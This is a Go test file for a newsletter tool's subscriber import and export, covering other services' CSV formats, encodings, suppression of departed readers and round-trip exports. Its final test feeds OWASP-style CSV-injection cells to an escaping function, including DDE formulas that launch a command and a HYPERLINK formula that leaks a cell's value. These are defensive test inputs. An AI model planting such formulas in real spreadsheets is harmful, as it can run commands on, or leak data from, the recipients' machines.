package subscribe

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"

	"github.com/masthead-mail/masthead/internal/newsletter"
)

// TestExportsOfOtherSystems: who is in testdata/exports, in the columns that each
// system writes, comes in with the status, the date of consent, the name and the tags.
func TestExportsOfOtherSystems(t *testing.T) {
	consent, left := time.Date(2024, 5, 6, 7, 8, 9, 0, time.UTC), time.Date(2025, 2, 3, 4, 5, 6, 0, time.UTC)
	for _, c := range []struct {
		file, name, tags string
		waiting          int                  // who has not confirmed there
		others           map[string]time.Time // who has left, and when; zero: that is not told
	}{
		{"listmonk", "Ada Lovelace", "", 0, map[string]time.Time{"gone unsubscribed": {}}},
		{"mailchimp-subscribed", "Ada Lovelace", "vip;press", 0, nil},
		{"mailchimp-unsubscribed", "", "", 0, map[string]time.Time{"gone unsubscribed": left}},
		{"mailchimp-cleaned", "", "", 0, map[string]time.Time{"dead bounced": left}},
		{"substack", "", "", 0, map[string]time.Time{"gone unsubscribed": {}}},
		{"substack-dashboard", "Ada Lovelace", "", 0, nil},
		{"mailerlite", "Ada Lovelace", "", 1, map[string]time.Time{"gone unsubscribed": left, "dead bounced": {}, "spam complained": {}}},
		{"ghost", "Ada Lovelace", "vip;press", 0, map[string]time.Time{"gone unsubscribed": {}}},
		{"buttondown", "", "vip;press", 1, map[string]time.Time{"gone unsubscribed": left, "dead bounced": left}},
	} {
		t.Run(c.file, func(t *testing.T) {
			d := open(t)
			raw, err := os.ReadFile("testdata/exports/" + c.file + ".csv")
			must(t, err)
			done, rejected := d.take(t, string(raw))
			if len(rejected) != c.waiting || done.Rows != done.Added+c.waiting {
				t.Errorf("%+v, %v", done, rejected)
			}
			for who, at := range c.others {
				name, status, _ := strings.Cut(who, " ")
				s := d.imported(t, newsletter.Address(name+"@example.org"))
				sup, err := d.store.Suppression(t.Context(), s.ID)
				if string(s.Status) != status || err != nil || string(sup.Reason) != status || !at.IsZero() && (!s.ChangedAt.Equal(at) || !sup.At.Equal(at)) {
					t.Errorf("%+v, suppressed %+v (%v)", s, sup, err)
				}
			}
			if !strings.Contains(string(raw), "ada@") {
				return
			}
			ada := d.imported(t, "ada@example.org")
			if ada.Status != newsletter.Active || ada.Name != c.name || strings.Join(ada.Tags, ";") != c.tags || ada.ConfirmedAt.Truncate(24*hour) != consent.Truncate(24*hour) {
				t.Errorf("%+v", ada)
			}
		})
	}
}

// TestEncodings: what Excel and others make of a table is read all the same.
func TestEncodings(t *testing.T) {
	const table = "email,name,tags\nada@example.org,Zoë Müller,\"a;b\"\n"
	encode := func(text string, err error) string { must(t, err); return text }
	semicolons := strings.ReplaceAll(strings.ReplaceAll(table, `"a;b"`, "a|b"), ",", ";")
	for name, file := range map[string]string{
		"UTF-8":                       table,
		"UTF-8 with a mark":           "\xef\xbb\xbf" + table,
		"UTF-16 as Excel":             encode(unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().String(table)),
		"UTF-16, the other way round": encode(unicode.UTF16(unicode.BigEndian, unicode.UseBOM).NewEncoder().String(table)),
		"UTF-16 without a mark":       encode(unicode.UTF16(unicode.LittleEndian, unicode.IgnoreBOM).NewEncoder().String(table)),
		"Windows-1252, semicolons":    encode(charmap.Windows1252.NewEncoder().String(semicolons)),
		"tabs, CRLF":                  strings.ReplaceAll(strings.ReplaceAll(table, ",", "\t"), "\n", "\r\n"),
		"old Mac":                     strings.ReplaceAll(table, "\n", "\r"),
		"a line for Excel before it":  "sep=;\r\n" + semicolons,
		"no end of the last line":     strings.TrimSpace(table),
		"German":                      "E-Mail-Adresse;Vorname;Nachname;Tags\nada@example.org;Zoë;Müller;a,b\n",
	} {
		t.Run(name, func(t *testing.T) {
			d := open(t)
			done, rejected := d.take(t, file)
			if s := d.imported(t, "ada@example.org"); done.Added != 1 || s.Name != "Zoë Müller" || !slices.Equal(s.Tags, []string{"a", "b"}) {
				t.Errorf("%+v, %v, %+v", done, rejected, s)
			}
		})
	}
}

// TestAQuotationMarkThatIsNeverClosed is told, with its line: what it swallows must not
// get lost in silence.
func TestAQuotationMarkThatIsNeverClosed(t *testing.T) {
	file := "email,name\nfirst@example.org,First\nada@example.org,\"Ada\n" + strings.Repeat("reader@example.org,Reader\n", 300)
	done, rejected := open(t).take(t, file)
	if done.Added != 1 || len(rejected) != 1 || !strings.Contains(rejected[0], "3 ada@example.org: a quotation mark opens here that is not closed for 302 lines") {
		t.Errorf("%+v, %v", done, rejected)
	}
}

// TestCleanExit: all that is known of readers comes out, and goes into an empty store
// as it was, who is erased and must not be mailed included.
func TestCleanExit(t *testing.T) {
	from, to := open(t), open(t)
	var want []newsletter.Subscriber
	for i, status := range []newsletter.Status{newsletter.Active, newsletter.Pending, newsletter.Unsubscribed, newsletter.Bounced, newsletter.Complained} {
		a := newsletter.Address(fmt.Sprintf("Reader%d@example.org", i))
		s := newsletter.Subscriber{ID: newsletter.Identify(pepper, a), Address: a, Name: "＝Ünï " + string(status), Status: status, Language: "de", Zone: "Europe/Berlin",
			Schedules: []string{"weekly"}, Topics: []string{"art"}, Tags: []string{"=vip", "press"}, TokenVersion: i,
			Consent:   newsletter.Consent{At: monday.Add(-5 * day), Origin: "form", Wording: "2026-11"},
			CreatedAt: monday.Add(-6 * day), ConfirmedAt: monday.Add(-4 * day), ChangedAt: monday.Add(-3*day + time.Microsecond)}
		if status == newsletter.Pending {
			s.ConfirmedAt = time.Time{}
		}
		if status == newsletter.Bounced || status == newsletter.Complained {
			sup := newsletter.Suppression{ID: s.ID, Reason: status, Detail: "550 no such user", At: monday.Add(-2 * day)}
			must(t, from.store.SaveSuppression(t.Context(), &sup))
		}
		want = append(want, s)
	}
	_, err := from.store.AddSubscribers(t.Context(), want)
	must(t, err)
	erased := newsletter.Suppression{ID: newsletter.Identify(pepper, "erased@example.org"), Reason: newsletter.Complained, Detail: "abuse", At: monday.Add(-day)}
	must(t, from.store.SaveSuppression(t.Context(), &erased))

	var file bytes.Buffer
	n, err := (&Export{from.store, pepper}).Write(t.Context(), &file, nil)
	if err != nil || n != len(want) {
		t.Fatalf("%d, %v", n, err)
	}
	for range 2 { // once more changes nothing
		if _, rejected := to.take(t, file.String()); len(rejected) > 0 {
			t.Errorf("rejected %v", rejected)
		}
	}
	for _, w := range want {
		if s := to.imported(t, w.Address); fmt.Sprintf("%+v", s) != strings.Replace(fmt.Sprintf("%+v", w), "Rev:0}", "Rev:1}", 1) {
			t.Errorf("%+v\nwant %+v", s, w)
		}
	}
	var again bytes.Buffer
	_, err = (&Export{to.store, pepper}).Write(t.Context(), &again, nil)
	if err != nil || again.String() != file.String() {
		t.Errorf("the second export differs (%v):\n%s\nfrom the first:\n%s", err, again.String(), file.String())
	}
	stranger := open(t)
	stranger.Pepper = []byte("another pepper")
	if done, rejected := stranger.take(t, file.String()); done.Barred != 0 || len(rejected) != 1 || !strings.Contains(rejected[0], "pepper of another installation") {
		t.Errorf("%+v, %v", done, rejected)
	}
}

// TestExportInPages gives the same rows whatever the size of a page.
func TestExportInPages(t *testing.T) {
	d := open(t)
	for i := range 25 {
		a := newsletter.Address(fmt.Sprintf("reader%d@example.org", i))
		if i%3 > 0 {
			must(t, d.store.SaveSubscriber(t.Context(), &newsletter.Subscriber{ID: newsletter.Identify(pepper, a), Address: a, Status: newsletter.Active}))
		}
		if i%2 == 0 {
			must(t, d.store.SaveSuppression(t.Context(), &newsletter.Suppression{ID: newsletter.Identify(pepper, a), Reason: newsletter.Bounced, At: monday}))
		}
	}
	e := &Export{d.store, pepper}
	var whole bytes.Buffer
	_, err := e.Write(t.Context(), &whole, nil)
	must(t, err)
	for _, limit := range []int{1, 2, 7, 24, 25, 26} {
		var pages bytes.Buffer
		readers, after := 0, newsletter.SubscriberID{}
		for more := true; more; {
			var n int
			n, after, more, err = e.Page(t.Context(), &pages, after, limit)
			must(t, err)
			readers += n
		}
		if pages.String() != whole.String() || readers != 16 {
			t.Errorf("in pages of %d there are %d readers:\n%s\nwant\n%s", limit, readers, pages.String(), whole.String())
		}
	}
}

// TestDifferences: a dry run says what each line would do, Update does it.
func TestDifferences(t *testing.T) {
	d := open(t)
	for address, status := range map[newsletter.Address]newsletter.Status{"same@example.org": newsletter.Active, "other@example.org": newsletter.Active,
		"leaves@example.org": newsletter.Active, "returned@example.org": newsletter.Active, "gone@example.org": newsletter.Unsubscribed, "waits@example.org": newsletter.Pending} {
		must(t, d.store.SaveSubscriber(t.Context(), &newsletter.Subscriber{ID: newsletter.Identify(pepper, address), Address: address, Name: "Name", Status: status,
			Tags: []string{"old"}, ConfirmedAt: monday.Add(-day)}))
	}
	const file = `email,name,tags,unsubscribed
same@example.org,Name,old,
other@example.org,Other,new,
leaves@example.org,,,2026-03-01 12:00:00
returned@example.org,,,2025-01-01
gone@example.org,,,
waits@example.org,,,
new@example.org,,,
nobody,,,
`
	run := func(o Import) (Imported, string) {
		var told []string
		o.Report = func(v Verdict) error {
			told = append(told, strings.TrimSpace(fmt.Sprintf("%d %s %s", v.Line, v.What, v.Why)))
			return nil
		}
		done, err := d.Import(t.Context(), strings.NewReader(file), o)
		must(t, err)
		slices.Sort(told)
		return done, strings.Join(told, "\n")
	}
	done, told := run(Import{DryRun: true})
	want := Imported{Rows: 8, Added: 1, Welcomed: 1, There: 4, Rejected: 2, Suppressed: 1, Different: 2}
	if done != want {
		t.Errorf("%+v, want %+v", done, want)
	}
	for _, line := range []string{"2 there", "3 different name, tags", "4 different status", "5 there", "6 suppressed address gone@example.org is not added", "7 welcomed", "8 new", "9 rejected"} {
		if !strings.Contains("\n"+told, "\n"+line) {
			t.Errorf("%q is not in\n%s", line, told)
		}
	}
	if _, told := run(Import{Update: true}); !strings.Contains(told, "3 changed name, tags") {
		t.Errorf("%s", told)
	}
	if s := d.imported(t, "other@example.org"); s.Name != "Other" || !slices.Equal(s.Tags, []string{"old", "new"}) {
		t.Errorf("%+v", s)
	}
	if s := d.imported(t, "leaves@example.org"); s.Status != newsletter.Unsubscribed {
		t.Errorf("%+v", s)
	}
	if _, err := d.store.Suppression(t.Context(), newsletter.Identify(pepper, "leaves@example.org")); err != nil {
		t.Error(err)
	}
	if s := d.imported(t, "returned@example.org"); s.Status != newsletter.Active {
		t.Errorf("somebody who has come back since is %s", s.Status)
	}
	if done, told := run(Import{Update: true}); done.Different != 0 {
		t.Errorf("once more changes %+v\n%s", done, told)
	}
}

// TestAnErasedReaderIsNotPutOnRecord again by a list of those who have left.
func TestAnErasedReaderIsNotPutOnRecord(t *testing.T) {
	d := open(t)
	must(t, d.store.SaveSuppression(t.Context(), &newsletter.Suppression{ID: newsletter.Identify(pepper, "erased@example.org"), Reason: newsletter.Unsubscribed, At: monday}))
	done, _ := d.take(t, "email,status\nerased@example.org,unsubscribed\n")
	_, err := d.store.Subscriber(t.Context(), newsletter.Identify(pepper, "erased@example.org"))
	if done.There != 1 || !errors.Is(err, newsletter.ErrNotFound) {
		t.Errorf("%+v, %v", done, err)
	}
}

// TestAnInterruptedImportIsMended: whoever is on record as gone and not suppressed yet
// is suppressed by the next pass.
func TestAnInterruptedImportIsMended(t *testing.T) {
	d := open(t)
	id := newsletter.Identify(pepper, "gone@example.org")
	must(t, d.store.SaveSubscriber(t.Context(), &newsletter.Subscriber{ID: id, Address: "gone@example.org", Status: newsletter.Complained}))
	d.take(t, "email,status\ngone@example.org,complained\n")
	if sup, err := d.store.Suppression(t.Context(), id); err != nil || sup.Reason != newsletter.Complained {
		t.Errorf("%+v, %v", sup, err)
	}
}

// TestOfTwoRowsTheGraverCounts, whichever comes first.
func TestOfTwoRowsTheGraverCounts(t *testing.T) {
	for _, file := range []string{"email,status\nada@example.org,active\nADA@example.org,bounced\n", "email,status\nada@example.org,bounced\nada@example.org,active\n",
		"email,status\nada@example.org,active\nada@example.org,unsubscribed\nada@example.org,bounced\nada@example.org,active\n"} {
		d := open(t)
		d.take(t, file)
		sup, err := d.store.Suppression(t.Context(), newsletter.Identify(pepper, "ada@example.org"))
		if s := d.imported(t, "ada@example.org"); s.Status != newsletter.Bounced || err != nil || sup.Reason != newsletter.Bounced {
			t.Errorf("%q: %+v, %+v, %v", file, s, sup, err)
		}
	}
}

// TestGuard knows what OWASP lists under "CSV Injection".
func TestGuard(t *testing.T) {
	for _, cell := range []string{"=1+1", "+1", "-1", "@SUM(1)", "\tx", "\rx", "\nx", "＝1", "＋1", "－1", "＠x", " =1", "\u3000=1", "'=1", "''", "'",
		`=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=HYPERLINK("https://example.org?x="&A1,"ok")`, "=DDE(\"cmd\";\"/C calc\";\"x\")"} {
		guarded := Guarded(cell)
		if guarded[0] != '\'' || plain(guarded) != cell {
			t.Errorf("%q became %q and then %q", cell, guarded, plain(guarded))
		}
	}
	for _, cell := range []string{"", "Ada", "'t Hooft", "a=b", "ﾊ=1", "1-2"} {
		if cell != "'t Hooft" && Guarded(cell) != cell || plain(cell) != cell || plain(Guarded(cell)) != cell {
			t.Errorf("%q became %q", cell, Guarded(cell))
		}
	}
}
